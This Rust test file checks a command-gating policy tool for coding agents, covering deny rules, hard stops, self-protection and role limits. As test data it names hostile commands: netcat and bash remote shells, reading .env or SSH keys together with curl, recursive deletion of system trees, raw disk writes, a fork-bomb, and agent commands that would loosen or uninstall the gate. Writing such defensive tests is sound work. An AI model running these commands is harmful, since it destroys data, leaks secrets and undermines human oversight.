//! Deny and ask rules, hard stops, self-protection, roles.

mod policy_support;

use callgate::authority::Level;
use callgate::effect::{Action, Flow, GapKind, HostTarget, Loss, Origin, Segment, Target, Via};
use callgate::policy::{List, OwnPlaces, Policy};
use callgate::verdict::{Layer, ReasonCode, Verdict};
use policy_support::*;

fn developer() -> Policy {
    Policy::default()
}

fn run(text: &str) -> callgate::effect::Analysis {
    one(command(text).prints())
}

#[test]
fn ac_51_a_deny_rule_sees_through_spelling_and_wrappers() {
    for rule in ["git push", "git push *", "git push*", "git push:*", "Bash(git push *)"] {
        let policy = developer().denying(rule);
        for text in [
            "git push",
            "git -C . push",
            "git --no-pager -c a.b=c push",
            "/usr/bin/git push",
            "X=1 git push",
            "A=1 B=2 /usr/bin/git -C x push",
        ] {
            assert_eq!(verdict(&run(text), &policy), DENY, "`{rule}` on `{text}`");
        }
        for via in [
            Via::Wrapper { name: "env".to_owned(), words: 2 },
            Via::ShellText("bash".to_owned()),
            Via::Function("f".to_owned()),
            Via::Substitution,
        ] {
            let inner = analysis(vec![segment(vec![
                command("echo hi").prints(),
                command_at("git push", 20).prints().via(via.clone()),
            ])]);
            assert_eq!(verdict(&inner, &policy), DENY, "{via:?}");
        }
    }
}

#[test]
fn ac_52_a_deny_rule_compares_whole_words() {
    let policy = developer().denying("sudo *").denying("git push *");
    for text in ["sudoku", "git pushall", "echo git push", "git log --grep push", "git log push"] {
        assert_eq!(verdict(&run(text), &policy), ALLOW, "{text}");
    }
}

#[test]
fn a_word_that_is_not_known_may_be_what_a_rule_denies() {
    let policy = developer().denying("git push *").allowing("Bash(*)");
    assert_eq!(verdict(&run("git $X"), &policy), SOFT);
    assert_eq!(verdict(&run("git add $X"), &policy), ALLOW);
    assert_eq!(verdict(&run("git $X"), &developer().allowing("Bash(*)")), ALLOW);
}

#[test]
fn deny_beats_ask_beats_allow() {
    let base = || developer().allowing("x.sh *");
    let call = || one(command("x.sh a").unknown());
    assert_eq!(verdict(&call(), &base()), ALLOW);
    assert_eq!(verdict(&call(), &base().asking("x.sh *")), HARD);
    assert_eq!(verdict(&call(), &base().asking("x.sh *").denying("x.sh a")), DENY);
    let decision = decide(&call(), &base().asking("x.sh *"));
    assert_eq!(decision.reason.code, ReasonCode::AskRule);
    let managed = base().with(List::Deny, "x.sh *", Layer::Managed);
    assert_eq!(decide(&call(), &managed).reason.code, ReasonCode::ManagedDeny);
}

#[test]
fn ac_49_and_50_all_rules_that_match_are_listed_and_all_must_be_lifted() {
    let policy = developer().denying("git push *").denying("git push --force *").allowing("git push --force");
    let call = one(command("git push --force")
        .does(Action::Publish, Target::Nothing)
        .does(Action::Connect(Flow::Send), remote()));
    let decision = decide(&call, &policy);
    assert_eq!(decision.verdict, DENY);
    let rules = &decision.segments[0].findings[0].rules;
    assert_eq!(rules, &["Bash(git push --force *)", "Bash(git push *)"]);
    assert_eq!(decision.reason.rule.as_deref(), Some("Bash(git push --force *)"));
    let lifting =
        |texts: &[&str]| Policy { exceptions: texts.iter().map(|text| (*text).to_owned()).collect(), ..policy.clone() };
    assert_eq!(verdict(&call, &lifting(&["Bash(git push --force *)"])), DENY);
    assert_eq!(verdict(&call, &lifting(&["Bash(git push *)"])), DENY);
    assert_eq!(verdict(&call, &lifting(&["Bash(git push --force *)", "Bash(git push *)"])), ALLOW);
    let offered = ways(&call, &policy);
    assert_eq!(offered[0].lines, [r#"deny-exceptions = ["Bash(git push --force *)", "Bash(git push *)"]"#]);
    assert_eq!(offered[0].result, Verdict::Allow);
}

#[test]
fn managed_denies_are_not_lifted() {
    let policy = Policy {
        exceptions: vec!["Bash(git push *)".to_owned()],
        ..developer().with(List::Deny, "git push *", Layer::Managed)
    };
    assert_eq!(verdict(&one(git_push()), &policy), DENY);
    assert!(ways(&one(git_push()), &policy).is_empty());
}

#[test]
fn path_rules_speak_of_commands_too() {
    let read = |file: &str| one(command(&format!("cat {file}")).does(Action::Read, path(file)));
    let write = |file: &str| one(command(&format!("tee {file}")).does(Action::Write, path(file)));
    let policy = developer().denying("Read(./private/**)").denying("Edit(src/gen/**)").denying("Read(*.crt)");
    assert_eq!(verdict(&read("private/a"), &policy), DENY);
    assert_eq!(verdict(&write("private/a"), &policy), DENY);
    assert_eq!(verdict(&read("src/gen/a.rs"), &policy), ALLOW);
    assert_eq!(verdict(&write("src/gen/a.rs"), &policy), DENY);
    assert_eq!(verdict(&read("a/b/c.CRT"), &policy), DENY);
    assert_eq!(verdict(&one(rm("src")), &policy), DENY);
    let redirect =
        analysis(vec![Segment { effects: vec![loose(Action::Write, path("src/gen/x"))], ..Segment::default() }]);
    assert_eq!(verdict(&redirect, &policy), DENY);
}

#[test]
fn trees_that_people_live_on_are_not_removed() {
    let denied = [
        "/",
        "/home",
        "/home/dev",
        "/home/other",
        "/etc",
        "/etc/ssh",
        "/usr",
        "/usr/lib/x",
        "/var",
        "/boot/x",
        PROJECT,
        ".git",
        "/HOME/dev",
    ];
    for target in denied {
        let decision = decide(&one(rm(target)), &Policy::at(Level::Yolo).allowing("rm *"));
        assert_eq!((decision.verdict, decision.reason.code), (DENY, ReasonCode::HardStop), "{target}");
    }
    for target in ["build", "/tmp/x", "/opt/x", "/home/dev/other", ".git/index.lock"] {
        assert_ne!(verdict(&one(rm(target)), &Policy::at(Level::Yolo)), DENY, "{target}");
    }
    for (target, expected) in [("/home/dev", DENY), ("/usr/bin", DENY), (".git", DENY), ("", SOFT), ("build", SOFT)] {
        let glob = command("rm -rf x/*").does(Action::Delete, below(target)).losing(Loss::Permanent);
        assert_eq!(verdict(&one(glob), &developer()), expected, "{target}/*");
    }
}

#[test]
fn a_hard_stop_is_lifted_by_its_id_only() {
    let policy = |id: &str| Policy { exceptions: vec![id.to_owned()], ..Policy::at(Level::Yolo) };
    assert_eq!(verdict(&one(rm("/etc/ssh")), &policy("remove-worktree")), DENY);
    assert_ne!(verdict(&one(rm("/opt")), &policy("remove-tree")), DENY);
}

#[test]
fn disks_and_bombs_are_stopped() {
    for device in ["/dev/sda", "/dev/nvme0n1p1", "/dev/mapper/root", "/dev/disk2"] {
        let write = one(command("dd x").does(Action::Write, path(device)));
        assert_eq!(verdict(&write, &Policy::at(Level::Yolo)), DENY, "{device}");
    }
    assert_eq!(verdict(&one(command("dd x").does(Action::Write, path("/dev/null"))), &developer()), ALLOW);
    let bomb = one(command("f").does(Action::Signal, Target::Name("fork-bomb".to_owned())));
    assert_eq!(decide(&bomb, &developer()).reason.rule.as_deref(), Some("fork-bomb"));
}

#[test]
fn a_secret_and_the_network_in_one_call_are_stopped() {
    let cat = |file: &str| command(&format!("cat {file}")).does(Action::Read, path(file));
    let curl = |target: Target| command("curl x").does(Action::Connect(Flow::Send), target);
    let both = |file: &str, target: Target| {
        verdict(&analysis(vec![segment(vec![cat(file), curl(target)])]), &Policy::at(Level::Yolo).allowing("Bash(*)"))
    };
    assert_eq!(both(".env", host("example.com")), DENY);
    assert_eq!(both("/home/dev/.ssh/id_rsa", remote()), DENY);
    assert_eq!(both(".env.example", host("example.com")), ALLOW);
    assert_ne!(both(".env", Target::Host(HostTarget::Loopback)), DENY);
    let chained = chain(vec![cat(".env"), curl(host("example.com"))]);
    assert_eq!(verdict(&chained, &developer()), DENY);
    let dump = chain(vec![command("env").does(Action::Env, Target::Nothing), curl(host("example.com"))]);
    assert_eq!(verdict(&dump, &developer()), DENY);
}

#[test]
fn a_shell_on_a_socket_is_stopped() {
    let redirected = analysis(vec![Segment {
        commands: vec![command("bash -i").gap(GapKind::Code, "bash").command],
        effects: vec![loose(Action::Connect(Flow::Send), host("example.com"))],
        ..Segment::default()
    }]);
    assert_eq!(decide(&redirected, &developer()).reason.rule.as_deref(), Some("remote-shell"));
    let netcat = one(command("nc -e /bin/sh h 1").does(Action::Connect(Flow::Send), host("h")).by(
        "-e",
        Action::Run(Origin::Unknown),
        Target::Nothing,
    ));
    assert_eq!(verdict(&netcat, &developer()), DENY);
}

#[test]
fn ac_56_nothing_changes_what_keeps_callgate_in_force() {
    let everything = || Policy {
        exceptions: vec!["self-protection".to_owned()],
        own: OwnPlaces { binary: Some("/opt/tools/callgate".into()), ..OwnPlaces::default() },
        ..Policy::at(Level::Yolo).allowing("Bash(*)").allowing("Edit(**)")
    };
    for file in [
        ".callgate.toml",
        ".claude/settings.json",
        ".CLAUDE/Settings.json",
        ".claude/settings.local.json",
        "/home/dev/.claude/settings.json",
        "/home/dev/.claude.json",
        "/home/dev/.config/callgate/policy.toml",
        "/home/dev/.local/state/callgate/grants",
        "/home/dev/.cargo/bin/callgate",
        "/etc/callgate/policy.toml",
        "/opt/tools/callgate",
    ] {
        for action in [Action::Write, Action::Append, Action::Delete, Action::Configure, Action::Elevate] {
            let shell = one(command("x").does(action, path(file)));
            let decision = decide(&shell, &everything());
            assert_eq!(
                (decision.verdict, decision.reason.code),
                (DENY, ReasonCode::SelfProtection),
                "{action:?} {file}"
            );
        }
        let edit = effects(vec![loose(Action::Write, path(file))]);
        assert_eq!(decide_tool("Write", &edit, &everything(), &context()).verdict, DENY, "{file}");
        assert!(ways(&one(command("x").does(Action::Write, path(file))), &everything()).is_empty());
    }
    for directory in [".claude", "/home/dev/.claude", "/home/dev/.config", "/home/dev/.config/callgate"] {
        assert_eq!(verdict(&one(rm(directory)), &everything()), DENY, "{directory}");
    }
    let copy = one(command("cp /tmp/settings.json .claude")
        .does(Action::Read, path("/tmp/settings.json"))
        .does(Action::Write, path(".claude")));
    assert_eq!(verdict(&copy, &everything()), DENY);
    let reading = one(command("cat x").does(Action::Read, path("/home/dev/.claude/settings.json")));
    assert_ne!(verdict(&reading, &everything()), DENY);
}

#[test]
fn ac_57_keys_and_grants_are_not_read() {
    for file in ["/home/dev/.local/state/callgate/grants", "/home/dev/.config/callgate/keys/a"] {
        assert_eq!(verdict(&one(command("cat x").does(Action::Read, path(file))), &Policy::at(Level::Yolo)), DENY);
        let read = effects(vec![loose(Action::Read, path(file))]);
        assert_eq!(decide_tool("Read", &read, &developer(), &context()).verdict, DENY);
    }
}

#[test]
fn ac_58_callgate_does_not_change_its_policy_for_an_agent() {
    for text in [
        "callgate policy set level yolo",
        "callgate grants approve 1",
        "/home/dev/.cargo/bin/callgate setup",
        "callgate --quiet uninstall",
        "callgate $X",
        "callgate grants $X",
    ] {
        assert_eq!(verdict(&run(text), &Policy::at(Level::Yolo).allowing("Bash(*)")), DENY, "{text}");
    }
    for text in ["callgate check x", "callgate policy show", "callgate grants list"] {
        assert_eq!(verdict(&run(text), &developer()), ALLOW, "{text}");
    }
}

#[test]
fn file_tools_pass_only_by_a_rule() {
    let write = effects(vec![loose(Action::Write, path("src/a.rs"))]);
    let decide = |policy: &Policy| decide_tool("Edit", &write, policy, &context()).verdict;
    assert_eq!(decide(&developer()), None);
    assert_eq!(decide(&developer().allowing("Edit(src/**)")), ALLOW);
    assert_eq!(decide(&developer().allowing("Edit(lib/**)")), None);
    assert_eq!(decide(&developer().allowing("Edit")), ALLOW);
    assert_eq!(decide(&developer().allowing("Edit").denying("Edit(src/**)")), DENY);
    assert_eq!(decide(&developer().asking("Edit(src/**)")), HARD);
    assert_eq!(decide(&Policy::at(Level::Reader).allowing("Edit(src/**)")), SOFT);
    let secret = effects(vec![loose(Action::Read, path(".env"))]);
    assert_eq!(decide_tool("Read", &secret, &developer(), &context()).verdict, SOFT);
}

#[test]
fn unknown_tools_have_rules_by_name_only() {
    let nothing = analysis(Vec::new());
    let decide = |policy: &Policy| decide_tool("mcp__github__push", &nothing, policy, &context()).verdict;
    assert_eq!(decide(&developer()), None);
    assert_eq!(decide(&developer().allowing("mcp__github__push")), ALLOW);
    assert_eq!(decide(&developer().allowing("mcp__*")), None);
    assert_eq!(decide(&developer().denying("mcp__*")), DENY);
    assert_eq!(decide(&developer().asking("mcp__github")), HARD);
}

#[test]
fn ac_38_each_role_has_its_floor() {
    for text in [
        "git push",
        "git remote add x y",
        "npm publish",
        "yarn publish",
        "pnpm publish",
        "cargo publish",
        "twine upload x",
        "gem push x",
        "sudo ls",
        "curl x",
        "wget x",
    ] {
        let decision = decide_in(&run(text), &developer().allowing("Bash(*)"), &in_role("worker"));
        assert_eq!((decision.verdict, decision.reason.code), (DENY, ReasonCode::DenyRule), "{text}");
        assert!(decision.reason.rule.is_some());
    }
    let nothing = analysis(Vec::new());
    for role in ["orchestrator", "validator-scrutiny", "validator-functional"] {
        for tool in ["Write", "Edit", "NotebookEdit", "WebFetch", "WebSearch"] {
            assert_eq!(decide_tool(tool, &nothing, &developer(), &in_role(role)).verdict, DENY, "{role} {tool}");
        }
        assert_eq!(decide_in(&one(git_push()), &developer(), &in_role(role)).verdict, DENY);
    }
    for tool in ["WebFetch", "WebSearch"] {
        assert_eq!(decide_tool(tool, &nothing, &developer(), &in_role("worker")).verdict, DENY);
    }
}

#[test]
fn ac_39_to_42_a_worker_keeps_its_floor_but_for_exact_exceptions() {
    let worker = in_role("worker");
    let policy = developer().denying("rm -rf *").denying("TodoWrite");
    assert_eq!(decide_in(&one(rm("/tmp/x")), &policy, &worker).verdict, DENY);
    assert_eq!(decide_tool("TodoWrite", &analysis(Vec::new()), &policy, &worker).verdict, DENY);
    assert_eq!(decide_in(&run("sudo ls"), &policy, &worker).verdict, DENY);
    let lifted = Policy { exceptions: vec!["Bash(git push *)".to_owned()], ..developer() };
    assert_eq!(decide_in(&run("git push"), &lifted, &worker).verdict, ALLOW);
    assert_eq!(decide_in(&run("sudo ls"), &lifted, &worker).verdict, DENY);
    let granted = developer().granting("git push");
    assert_eq!(decide_in(&one(git_push()), &granted, &worker).verdict, DENY);
}

#[test]
fn ac_43_to_45_grants_and_validator_commands_reach_their_roles() {
    let granted = developer().granting("gc lint");
    for (role, expected) in
        [("worker", ALLOW), ("validator-scrutiny", ALLOW), ("validator-functional", ALLOW), ("orchestrator", DENY)]
    {
        for text in ["gc lint", "gc lint --help"] {
            let call = one(command(text).unknown());
            assert_eq!(decide_in(&call, &granted, &in_role(role)).verdict, expected, "{role} {text}");
        }
    }
    let policy = developer()
        .with_role_commands("validator-functional", &["cargo test --workspace x", "python3 x.py && echo OK"]);
    for (role, text, expected) in [
        ("validator-functional", "cargo test --workspace x", ALLOW),
        ("validator-functional", "cargo test --workspace x --quiet", ALLOW),
        ("validator-functional", "cargo test", DENY),
        ("validator-functional", "cargo build", DENY),
        ("validator-functional", "python3 x.py", ALLOW),
        ("validator-functional", "python3 -c x", DENY),
        ("validator-scrutiny", "cargo test --workspace x", DENY),
    ] {
        let call = one(command(text).does(Action::Run(Origin::Project), Target::Nothing));
        assert_eq!(decide_in(&call, &policy, &in_role(role)).verdict, expected, "{role} {text}");
    }
}

#[test]
fn ac_46_validators_print_callgates_own_variables_only() {
    let print = |name: &str| one(command("printenv X").does(Action::Env, Target::Name(name.to_owned())));
    for role in ["validator-scrutiny", "validator-functional"] {
        assert_eq!(decide_in(&print("CALLGATE_X"), &developer(), &in_role(role)).verdict, ALLOW);
        assert_eq!(decide_in(&print("V"), &developer(), &in_role(role)).verdict, DENY);
        let dump = one(command("env").does(Action::Env, Target::Nothing));
        assert_eq!(decide_in(&dump, &developer(), &in_role(role)).verdict, DENY);
    }
}

#[test]
fn ac_47_and_48_reading_roles_read() {
    let read = |text: &str| one(command(text).does(Action::Read, Target::Repository));
    let write = |text: &str| one(command(text).does(Action::Write, Target::Repository));
    let output = one(command("git log --output=f").does(Action::Read, Target::Repository).by(
        "--output=f",
        Action::Write,
        path("f"),
    ));
    let external = one(command("git diff --ext-diff").does(Action::Read, Target::Repository).by(
        "--ext-diff",
        Action::Run(Origin::Project),
        Target::Nothing,
    ));
    for role in ["orchestrator", "validator-scrutiny", "validator-functional"] {
        let decide = |call: &callgate::effect::Analysis| decide_in(call, &developer(), &in_role(role)).verdict;
        assert_eq!(decide(&read("git branch")), ALLOW);
        assert_eq!(decide(&read("git branch --list")), ALLOW);
        assert_eq!(decide(&write("git branch -D main")), DENY);
        assert_eq!(decide(&write("git tag -d v")), DENY);
        assert_eq!(decide(&output), DENY);
        assert_eq!(decide(&external), DENY);
        assert_eq!(decide(&one(command("touch a").does(Action::Write, path("a")))), DENY);
        let unknown = decide_in(&one(command("frob").unknown()), &developer().allowing("frob"), &in_role(role));
        assert_eq!((unknown.verdict, unknown.reason.code), (DENY, ReasonCode::ClosedRole));
    }
}

#[test]
fn a_worker_runs_what_is_unknown_but_not_what_is_added() {
    let worker = in_role("worker");
    let decision = decide_in(&one(command("frob").unknown()), &developer(), &worker);
    assert_eq!((decision.verdict, decision.reason.code), (ALLOW, ReasonCode::RoleOpen));
    assert_eq!(decide_in(&one(command("frob").unknown()), &Policy::at(Level::Reader), &worker).verdict, SOFT);
    let outside = one(command("touch /opt/x").does(Action::Write, path("/opt/x")));
    assert_eq!(decide_in(&outside, &developer(), &worker).verdict, SOFT);
    let computed = one(command("$X").gap(GapKind::ComputedProgram, "$X"));
    assert_eq!(decide_in(&computed, &developer(), &worker).verdict, SOFT);
}

#[test]
fn ac_54_an_unknown_role_is_the_strictest_and_that_is_said() {
    let decision = decide_in(&one(command("frob").unknown()), &developer().granting("frob"), &in_role("docs"));
    assert_eq!(decision.verdict, DENY);
    assert!(decision.notes.iter().any(|note| note.contains("`docs`")));
}
